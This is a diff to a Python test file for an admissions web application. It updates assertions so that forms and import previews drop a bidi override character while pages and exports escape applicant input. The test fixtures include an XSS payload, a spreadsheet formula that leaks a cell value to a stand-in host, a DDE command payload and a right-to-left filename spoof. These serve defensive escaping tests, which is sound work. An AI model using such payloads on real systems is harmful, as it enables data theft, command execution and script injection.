@@ -256,6 +256,8 @@ def applicant_submits(region, world, *, first: str, last: str, free_text: str) -
 FORM_FIRST = '=HYPERLINK("http://x.test/?"&A1,"Klicka")"><img src=x onerror=alert(1)>'
 FORM_LAST = "@SUM(1+1)*cmd|' /C calc'!A0<script>alert(1)</script>\u202egnp.exe"
 FORM_TEXT = "".join(HTML_ATTACKS) * 20
+# The forms drop bidi overrides (admissions.applications.text) and keep every other character.
+SAVED_LAST = FORM_LAST.replace("\u202e", "")
 
 
 def test_the_forms_keep_what_the_applicant_typed_and_the_intake_pages_and_export_escape_it(
@@ -264,9 +266,9 @@ def test_the_forms_keep_what_the_applicant_typed_and_the_intake_pages_and_export
     application = applicant_submits(
         region, world, first=FORM_FIRST, last=FORM_LAST, free_text=FORM_TEXT
     )
-    # The forms kept the texts as typed (else the tests below, which save texts directly,
-    # would prove nothing about what an applicant can save).
-    assert (application.first_name, application.last_name) == (FORM_FIRST, FORM_LAST)
+    # The forms kept the texts as typed, but for the override (else the tests below, which save
+    # texts directly, would prove nothing about what an applicant can save).
+    assert (application.first_name, application.last_name) == (FORM_FIRST, SAVED_LAST)
     assert application.street_address == FORM_TEXT[:100].strip()
     assert application.validation_description == FORM_TEXT
     assert application.status == ApplicationStatus.SUBMITTED, application.status
@@ -274,13 +276,13 @@ def test_the_forms_keep_what_the_applicant_typed_and_the_intake_pages_and_export
     officer = world["officer"]
     queue = officer.get(reverse("admissions:intake_queue"))
     assert queue.status_code == 200
-    assert_inert(queue.content.decode(), FORM_FIRST, FORM_LAST)
+    assert_inert(queue.content.decode(), FORM_FIRST, SAVED_LAST)
     detail = officer.get(reverse("admissions:intake_application", args=[application.pk]))
     assert detail.status_code == 200
     assert_inert(
         detail.content.decode(),
         FORM_FIRST,
-        FORM_LAST,
+        SAVED_LAST,
         application.street_address,
         application.city,
         FORM_TEXT,
@@ -291,7 +293,7 @@ def test_the_forms_keep_what_the_applicant_typed_and_the_intake_pages_and_export
         )
         assert exported.status_code == 200, exported.content[:2000]
         content = b"".join(exported.streaming_content) if exported.streaming else exported.content
-        assert_exported(read(content), application.reference, FORM_FIRST, FORM_LAST)
+        assert_exported(read(content), application.reference, FORM_FIRST, SAVED_LAST)
 
 
 # --- hypothesis: every staff page, the exports, the letter and the case file ---------------------
@@ -525,7 +527,8 @@ def test_the_names_and_values_of_an_imported_file_are_escaped_on_the_preview(reg
     assert preview.status_code == 200
     html = preview.content.decode()
     assert "1 row can be imported." in html and "1 row is refused." in html
-    assert_inert(html, first, last)
+    # The import, as the forms, drops the override.
+    assert_inert(html, first, SAVED_LAST)
     assert_inert(html, *HTML_ATTACKS[:2], shown=False)
 
 
